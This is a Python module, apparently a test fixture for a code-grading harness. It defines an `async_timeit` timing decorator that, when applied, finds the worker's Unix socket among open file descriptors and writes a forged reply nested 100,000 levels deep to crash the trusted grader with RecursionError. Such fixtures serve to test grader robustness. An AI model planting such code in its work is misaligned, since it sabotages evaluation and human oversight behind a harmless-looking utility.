# ruff: noqa
"""Deep reply: the decorator writes a reply nested 100,000 levels deep on the worker's channel.

Whatever it decorates, async_timeit first writes `{"reply": {"value": [[[...]]]}}`
(200 kB) on the channel the worker answers on (found among the open file
descriptors), then returns a correct timing wrapper. Parsed naively, the line
raises RecursionError in the trusted process, which used to be reported as
"the grader failed" on every test.
"""

import functools
import os
import socket
import stat
import time

DEEP = b'{"reply": {"value": ' + b"[" * 100_000 + b"]" * 100_000 + b"}}\n"


def _channels() -> list[socket.socket]:
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            fd = int(name)
            if not stat.S_ISSOCK(os.fstat(fd).st_mode) or not os.get_blocking(fd):
                continue  # asyncio's own socketpair (its self-pipe) is non-blocking
            sock = socket.socket(fileno=os.dup(fd))
        except (OSError, ValueError):
            continue
        try:
            if (sock.family == socket.AF_UNIX and sock.getpeername() in ("", b"")
                    and sock.getsockname() in ("", b"")):
                found.append(sock)
                continue
        except OSError:
            pass
        sock.close()
    return found


def async_timeit(func):
    for sock in _channels():
        try:
            sock.sendall(DEEP)
        except OSError:
            pass

    @functools.wraps(func)
    async def wrapper(*args, **kwargs):
        start = time.perf_counter()
        result = await func(*args, **kwargs)
        elapsed = time.perf_counter() - start
        print(f"Время выполнения {func.__name__}: {elapsed:.4f} секунд")
        return result

    return wrapper
